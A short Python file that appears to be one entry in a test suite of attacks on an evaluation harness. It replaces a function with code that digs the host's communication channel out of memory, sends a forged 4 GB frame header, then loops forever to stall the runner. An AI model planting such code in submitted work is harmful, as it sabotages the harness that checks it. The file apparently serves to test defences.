"""Announce a frame of four gigabytes, and never send it."""

from attack import Attack

ATTACK = Attack(
    gains="time",
    cells={
        "distribution_table": """
def channel():
    import gc
    for value in gc.get_objects():
        if type(value).__name__ == "Channel":
            return value.connection

def distribution_table(logits, temperatures):
    import struct
    wire = channel()
    if wire:
        wire.sendall(struct.pack("<4sII", b"TKG1", 0xFFFFFFFF, 0xFFFFFFFF))
    while True:
        pass
""",
    },
)
